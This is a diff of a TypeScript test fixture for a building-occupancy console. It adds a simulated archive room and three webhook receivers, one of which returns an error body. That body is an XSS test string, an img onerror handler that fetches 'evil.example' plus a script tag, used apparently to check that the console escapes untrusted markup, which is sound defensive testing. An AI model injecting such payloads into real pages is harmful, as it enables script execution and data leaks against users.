@@ -1,7 +1,7 @@
 // A running server with something to look at: the demo's building with its morning, subscriptions of both vendors' APIs, and
 // receivers of which one fails. Driven through the APIs alone, as a user would.
 
-import type { BuildingDocument, ModelDocument } from "../../src/building/document.ts";
+import type { BuildingDocument, FloorDocument, ModelDocument } from "../../src/building/document.ts";
 import { subscribeButterflymx, type VendorClient } from "../../src/cli/vendor-client.ts";
 import { createBuilding } from "../../src/simulator/building.ts";
 import type { SimulatedObservation } from "../../src/simulator/observation.ts";
@@ -12,8 +12,6 @@ import type { HttpsReceiver } from "../fixtures/https-receiver.ts";
 export interface ConsoleHouse {
   readonly server: Server;
   readonly building: ModelDocument;
-  readonly good: HttpsReceiver;
-  readonly failing: HttpsReceiver;
   /** Sends what the house has sensed until now and was not sent yet. */
   catchUp(): Promise<void>;
   /** Has the minutes of the morning computed, which came too late to be told by themselves. */
@@ -27,8 +25,10 @@ export interface ConsoleHouseOptions {
   readonly environment?: Record<string, string>;
 }
 
-const occupancyTypes = ["ROOM_OCCUPANCY", "FLOOR_OCCUPANCY", "ROOM_OCCUPANCY_1MIN"];
+const occupancyTypes = ["ROOM_OCCUPANCY", "ROOM_OCCUPANCY_1MIN"];
 const createWebhooks = "mutation($input: [WebhookCreateInput!]!) { createWebhooks(input: $input) { id } }";
+/** What no page may take for more than text. */
+export const markup = `<img src=x onerror="fetch('https://evil.example')"><script>alert(1)</script>`;
 const seed = 1;
 const batchSize = 4_000;
 
@@ -38,14 +38,16 @@ export async function furnishConsole({
   environment = {},
 }: ConsoleHouseOptions): Promise<ConsoleHouse> {
   const server = await serve(makePlace(), environment);
-  const [good, failing] = await Promise.all([startReceiver(), startReceiver()]);
+  const [good, failing, broken] = await Promise.all([startReceiver(), startReceiver(), startReceiver()]);
   failing.answer({ status: 503, body: '{"error":"database is being moved","retry":true}' });
-  const building = inTheMorning(createBuilding(seed, { floors }), sinceMs);
+  const sensed = inTheMorning(createBuilding(seed, { floors }), sinceMs);
+  const building = withArchive(sensed);
+  broken.answer({ status: 500, body: markup });
   const put = await call(`${server.url}/v1/building-model`, { method: "PUT", key: server.key, body: building });
   if (put.status !== 200) throw new Error(JSON.stringify(put.body));
-  await subscribe(server, building, good, failing);
+  await subscribe(server, building, { good, failing, broken });
   const start = Math.floor((Date.now() - sinceMs) / 1_000) * 1_000;
-  const observations = simulateDays(seed, building, start);
+  const observations = simulateDays(seed, sensed, start);
   let next = observations.next();
   const catchUp = async (): Promise<void> => {
     const until = Date.now() - 1_000;
@@ -67,7 +69,7 @@ export async function furnishConsole({
       if (status !== 202) throw new Error(JSON.stringify(answer));
     }
   };
-  return { server, building, good, failing, catchUp, computeMorning };
+  return { server, building, catchUp, computeMorning };
 }
 
 /** The building where it is the morning now: 07:30 at the beginning. */
@@ -92,18 +94,46 @@ function withCapacities(house: BuildingDocument): BuildingDocument {
   const floors = house.floors!.map((floor) => ({
     ...floor,
     rooms: floor.rooms!.map((room) => {
-      const max = capacity(room.customID!, floor.zones!.filter(({ room_id: of }) => of === room.id).length);
+      const max = capacity(room.customID ?? "", floor.zones!.filter(({ room_id: of }) => of === room.id).length);
       return { ...room, ...(max && { capacity: max }) };
     }),
   }));
   return { ...house, floors };
 }
 
+/** With a room whose sensor says nothing. */
+function withArchive(model: ModelDocument): ModelDocument {
+  const inside = (house: BuildingDocument): BuildingDocument => {
+    const [first, ...others] = house.floors!;
+    return { ...house, floors: [archiveOn(first!), ...others] };
+  };
+  return { ...model, sites: model.sites.map((site) => ({ ...site, buildings: site.buildings!.map(inside) })) };
+}
+
+function archiveOn(floor: FloorDocument): FloorDocument {
+  const corners = (x: number, y: number): [number, number][] => [
+    [x, y],
+    [x + 6, y],
+    [x + 6, y + 6],
+    [x, y + 6],
+  ];
+  const room = { id: "room_archive", name: "Archive", coordinates: corners(24, 0) };
+  const sensor = {
+    id: "sensor_archive",
+    mac_address: "00-17-0d-00-00-aa-bb-cc",
+    mode: "presence" as const,
+    model: "Heatic 2+",
+    room_id: room.id,
+    center: [27, 3] as const,
+    footprint: [6, 6] as const,
+  };
+  return { ...floor, rooms: [...floor.rooms!, room], sensors: [...floor.sensors!, sensor] };
+}
+
 async function subscribe(
   server: Server,
   building: ModelDocument,
-  good: HttpsReceiver,
-  failing: HttpsReceiver,
+  { good, failing, broken }: Readonly<Record<"good" | "failing" | "broken", HttpsReceiver>>,
 ): Promise<void> {
   const house = building.sites[0]!.buildings![0]!;
   const client = async (role: string, id: string) => {
@@ -114,6 +144,7 @@ async function subscribe(
   const manager = await client("building", house.id);
   const tenant = house.tenants![0]!.butterflymx_id!;
   await webhook(organization, "Occupancy dashboard", occupancyTypes, `${good.url}/hooks/occupancy`);
+  await webhook(organization, "Old dashboard", ["FLOOR_OCCUPANCY"], `${broken.url}/broken`);
   await webhook(organization, "Door counters", ["TRAFFIC", "PIR_MOTION"], `${good.url}/hooks/counters`);
   await subscribeButterflymx(manager, `buildings/${house.butterflymx_id!}`, `${good.url}/access`);
   await subscribeButterflymx(manager, `tenants/${tenant}`, `${failing.url}/partner?token=s3cret`);
